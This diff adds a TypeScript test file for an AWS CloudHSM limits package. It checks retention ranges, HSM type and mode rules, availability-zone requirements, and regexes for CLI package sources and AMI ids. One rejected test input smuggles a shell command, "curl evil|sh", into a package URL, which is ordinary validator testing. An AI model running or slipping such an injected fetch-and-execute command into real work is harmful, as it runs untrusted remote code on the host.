@@ -1,0 +1,81 @@
+import { CLOUDHSM, inRange, type Default, type Pattern, type Range } from "@cmk-stacks/aws-limits";
+
+const AWS_DOC = /^https:\/\/docs\.aws\.amazon\.com\/\S+\.html$/;
+const entries = Object.entries(CLOUDHSM);
+const ranges = entries.filter(([, v]) => typeof v === "object" && v !== null && "min" in v) as [string, Range][];
+const defaults = entries.filter(([name]) => name.endsWith("_DEFAULT")) as [string, Default<unknown>][];
+const patterns = entries.filter(([, v]) => typeof v === "object" && v !== null && "regex" in v) as [string, Pattern][];
+
+test("every range has min <= max and an AWS documentation page", () => {
+  expect(ranges.map(([n]) => n).sort()).toEqual(["BACKUP_RETENTION_DAYS", "CLUSTER_PORTS", "HSMS_PER_CLUSTER"]);
+  for (const [name, r] of ranges) expect([name, r.min <= r.max, AWS_DOC.test(r.doc)]).toEqual([name, true, true]);
+});
+
+test("every default names its AWS page and a reason", () => {
+  expect(defaults.length).toBeGreaterThanOrEqual(6);
+  for (const [name, d] of defaults) expect([name, AWS_DOC.test(String(d.doc)), (d.why ?? "").length > 0]).toEqual([name, true, true]);
+});
+
+test("every pattern names its AWS page and says what is allowed", () => {
+  for (const [name, p] of patterns) expect([name, AWS_DOC.test(p.doc), p.allowed.length > 0]).toEqual([name, true, true]);
+});
+
+test("defaults are values the rules allow", () => {
+  expect(inRange(CLOUDHSM.BACKUP_RETENTION_DAYS, CLOUDHSM.BACKUP_RETENTION_DAYS_DEFAULT.value)).toBe(true);
+  expect(CLOUDHSM.HSM_TYPES).toContain(CLOUDHSM.HSM_TYPE_DEFAULT.value);
+  expect(CLOUDHSM.CLUSTER_MODES).toContain(CLOUDHSM.CLUSTER_MODE_DEFAULT.value);
+  expect(CLOUDHSM.modeAllowedFor(CLOUDHSM.HSM_TYPE_DEFAULT.value, CLOUDHSM.CLUSTER_MODE_DEFAULT.value)).toBe(true);
+  expect(CLOUDHSM.INSTANCE_TYPE.regex.test(CLOUDHSM.ADMIN_HOST_INSTANCE_TYPE_DEFAULT.value)).toBe(true);
+  expect(CLOUDHSM.ADMIN_HOST_CLI_PACKAGE.regex.test(CLOUDHSM.ADMIN_HOST_CLI_PACKAGE_DEFAULT.value)).toBe(true);
+  expect(inRange(CLOUDHSM.HSMS_PER_CLUSTER, CLOUDHSM.KEY_STORE_MIN_HSMS.value)).toBe(true);
+});
+
+test.each([
+  [6, false],
+  [7, true],
+  [90, true],
+  [379, true],
+  [380, false],
+  [30.5, false],
+  [Number.NaN, false],
+])("backup retention of %s days allowed: %s", (days, allowed) => {
+  expect(inRange(CLOUDHSM.BACKUP_RETENTION_DAYS, days)).toBe(allowed);
+});
+
+test.each([
+  ["hsm1.medium", "FIPS", true],
+  ["hsm1.medium", "NON_FIPS", false],
+  ["hsm2m.medium", "NON_FIPS", true],
+  ["hsm2m.medium", "FIPS", true],
+])("a %s cluster in %s mode allowed: %s", (type, mode, allowed) => {
+  expect(CLOUDHSM.modeAllowedFor(type, mode)).toBe(allowed);
+});
+
+test.each([
+  [["eu-west-1a", "eu-west-1b"], true],
+  [["eu-west-1a", "eu-west-1b", "eu-west-1a"], true],
+  [["eu-west-1a"], false],
+  [["eu-west-1a", "eu-west-1a"], false],
+  [[], false],
+])("HSMs in %j serve a key store: %s", (azs, ok) => {
+  expect(CLOUDHSM.hsmAzsServeKeyStore(azs)).toBe(ok);
+});
+
+test.each([
+  ["https://s3.amazonaws.com/cloudhsmv2-software/CloudHsmClient/Amzn2023/cloudhsm-cli-latest.amzn2023.x86_64.rpm", true],
+  ["s3://my-mirror/cloudhsm/cloudhsm-cli.rpm", true],
+  ["http://example.com/cloudhsm-cli.rpm", false],
+  ["https://example.com/cli.rpm'; curl evil|sh; '", false],
+  ["s3://my-mirror/cloudhsm-cli.deb", false],
+])("CLI package %s allowed: %s", (source, ok) => {
+  expect(CLOUDHSM.ADMIN_HOST_CLI_PACKAGE.regex.test(source)).toBe(ok);
+});
+
+test.each([
+  ["ami-0123abcd", true],
+  ["ami-0123456789abcdef0", true],
+  ["ami-0123abc", false],
+  ["ami-0123456789ABCDEF0", false],
+])("AMI id %s allowed: %s", (id, ok) => {
+  expect(CLOUDHSM.AMI_ID.regex.test(id)).toBe(ok);
+});
